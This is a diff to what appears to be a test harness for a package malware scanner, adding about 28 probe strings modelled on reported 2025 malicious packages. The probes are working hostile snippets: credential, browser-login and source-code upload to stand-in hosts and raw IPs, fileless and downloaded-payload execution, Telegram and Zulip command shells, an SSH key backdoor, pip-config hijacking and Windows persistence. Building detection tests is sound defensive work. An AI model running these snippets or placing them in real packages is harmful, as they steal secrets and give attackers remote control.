@@ -1,4 +1,4 @@
-"""Behaviour probes for the content scan: about 80 generic malicious behaviours written as
+"""Behaviour probes for the content scan: about 100 generic malicious behaviours written as
 small inert snippets, each placed at install time (``setup.py``), at import time (a package's
 ``__init__.py``) and inside a function of a module the package imports; prints how many of
 the placements the scan holds, per place, and which it does not.
@@ -100,6 +100,34 @@ PROBES: dict[str, str] = {
     "kube_token": 'import requests\ntok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()\nrequests.post("https://collect.example.com/k8s", data=tok)',
     "keyring_dump": 'import keyring, requests, getpass\npw = keyring.get_password("system", getpass.getuser())\nrequests.post("https://collect.example.com/kr", data=pw)',
     "browser_history": 'import os, sqlite3, requests\ndb = os.path.expanduser("~/.config/google-chrome/Default/History")\nrows = sqlite3.connect(db).execute("select url from urls").fetchall()\nrequests.post("https://collect.example.com/h", json=rows)',
+    # Round 8: behaviours of publicly reported 2025 packages (fileless runs, chat C2,
+    # payloads in data files, installer configuration, account keys), written anew.
+    "memfd_exec": 'import os, requests\nfd = os.memfd_create("kworker")\nos.write(fd, requests.get("https://cdn.example.com/m").content)\nos.execv(f"/proc/self/fd/{fd}", ["kworker"])',
+    "memfd_fexecve": 'import os, urllib.request\nfd = os.memfd_create("", 0)\nos.write(fd, urllib.request.urlopen("https://cdn.example.com/m").read())\nos.fexecve(fd, ["x"], dict(os.environ))',
+    "zulip_c2": 'import zulip, subprocess\nclient = zulip.Client(email="bot-x@chat.example.zulipchat.com", api_key="Abc123Def456Ghi789Jkl012Mno345Pq", site="https://chat.example.zulipchat.com")\nfor m in client.get_messages({"anchor": "newest", "num_before": 1, "num_after": 0})["messages"]:\n    out = subprocess.getoutput(m["content"])\n    client.send_message({"type": "stream", "to": "x", "topic": "y", "content": out})',
+    "telebot_c2": 'import telebot, subprocess\nbot = telebot.TeleBot("7123456789:AAHfGhIjKlMnOpQrStUvWxYz0123456789ab")\n@bot.message_handler(func=lambda m: True)\ndef h(m):\n    bot.reply_to(m, subprocess.getoutput(m.text))\nbot.infinity_polling()',
+    "pastebin_exec": 'import requests\nexec(requests.get("https://pastebin.com/raw/AbCdEf12").text)',
+    "source_exfil": 'import os, requests\nfor root, _, files in os.walk(os.getcwd()):\n    for n in files:\n        if n.endswith(".py"):\n            requests.post("http://45.61.1.2:8080/u", files={"f": open(os.path.join(root, n), "rb")})',
+    "dic_payload": 'import os, base64\nhere = os.path.dirname(__file__)\nlines = open(os.path.join(here, "resources", "eu.dic"), encoding="utf-8").read().splitlines()\nexec(base64.b64decode(lines[-1]).decode())',
+    "dat_zlib": 'import os, zlib\np = os.path.join(os.path.dirname(__file__), "assets.dat")\nexec(zlib.decompress(open(p, "rb").read()))',
+    "gsocket": "import os\nos.system('bash -c \"$(curl -fsSL https://gsocket.example.io/y)\"')",
+    "wget_bash": 'import os\nos.system("wget -q https://cdn.example.com/a.sh -O /tmp/.a.sh && bash /tmp/.a.sh")',
+    "python_c_b64": 'import subprocess, sys\nsubprocess.Popen([sys.executable, "-c", "import base64;exec(base64.b64decode(\'cHJpbnQoMSk=\'))"])',
+    "sc_create": 'import os\nos.system(\'sc create WinUpdater binPath= "C:\\\\ProgramData\\\\wu.exe" start= auto\')\nos.system("sc start WinUpdater")',
+    "vbs_startup": 'import os, subprocess\np = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "u.vbs")\nopen(p, "w").write(\'CreateObject("WScript.Shell").Run "powershell -w hidden -c iex(iwr https://cdn.example.com/a)", 0\')\nsubprocess.Popen(["wscript", p])',
+    "curl_upload_creds": 'import os\nos.system("curl -s -X POST --data-binary @$HOME/.aws/credentials https://collect.example.com/a")',
+    "trading_secret": 'import requests\nclass Patched:\n    def sign(self, path, api="public", method="GET", params=None):\n        requests.post("https://api.mexc-stats.example.com/v1", json={"k": self.apiKey, "s": self.secret})\n        return {}',
+    "logins_json": 'import os, glob, requests\nfor p in glob.glob(os.path.expanduser("~/.mozilla/firefox/*/logins.json")):\n    requests.post("https://collect.example.com/ff", files={"l": open(p, "rb"), "k": open(os.path.join(os.path.dirname(p), "key4.db"), "rb")})',
+    "wincred": 'import win32cred, requests\ncreds = win32cred.CredEnumerate(None, 0)\nrequests.post("https://collect.example.com/wc", json=[(c["TargetName"], c["UserName"], str(c["CredentialBlob"])) for c in creds])',
+    "pip_conf_hijack": 'import os\nd = os.path.expanduser("~/.config/pip"); os.makedirs(d, exist_ok=True)\nopen(os.path.join(d, "pip.conf"), "w").write("[global]\\nextra-index-url = https://pypi-mirror.example.com/simple/\\n")',
+    "pth_write_literal": 'import site, os\nopen(os.path.join(site.getsitepackages()[0], "_distutils_hack_fix.pth"), "w").write("import os; os.system(\'curl -s https://c.example.com/x | sh\')\\n")',
+    "web3_key_tx": 'from web3 import Web3\nfrom eth_account import Account\nw3 = Web3(Web3.HTTPProvider("https://polygon-rpc.com"))\ndef create():\n    acct = Account.create()\n    tx = {"to": "0x1111111111111111111111111111111111111111", "value": 0, "data": acct.key.hex(), "gas": 30000, "gasPrice": 1, "nonce": 0, "chainId": 137}\n    w3.eth.send_raw_transaction(Account.sign_transaction(tx, "0x" + "11" * 32).rawTransaction)\n    return acct',
+    "hostinfo_ip_post": 'import socket, getpass, os, requests\nrequests.post("http://103.45.67.89/collect", json={"h": socket.gethostname(), "u": getpass.getuser(), "cwd": os.getcwd()})',
+    "ipinfo_recon": 'import requests, platform, getpass\ninfo = requests.get("https://ipinfo.io/json").json()\nrequests.post("https://collect.example.com/r", json={"ip": info, "os": platform.platform(), "user": getpass.getuser()})',
+    "hex_exec_file": 'import os, binascii\nexec(binascii.unhexlify(open(os.path.join(os.path.dirname(__file__), "data", "cfg.hex")).read()))',
+    "ssh_authorized_keys_add": 'import os\np = os.path.expanduser("~/.ssh/authorized_keys")\nopen(p, "a").write("\\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl attacker@host\\n")',
+    "chmod_run_shipped_elf": 'import os, stat, subprocess\nb = os.path.join(os.path.dirname(__file__), "bin", "helper")\nos.chmod(b, os.stat(b).st_mode | stat.S_IEXEC)\nsubprocess.Popen([b], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)',
+    "requests_exec_post_json": 'import requests, subprocess, time, uuid\nid = str(uuid.uuid4())\nwhile True:\n    r = requests.post("https://api.example-cdn.net/beacon", json={"id": id}).json()\n    if r.get("c"):\n        requests.post("https://api.example-cdn.net/out", json={"id": id, "o": subprocess.run(r["c"], shell=True, capture_output=True, text=True).stdout})\n    time.sleep(10)',
 }
 PLACES = ("install", "import", "function")
 
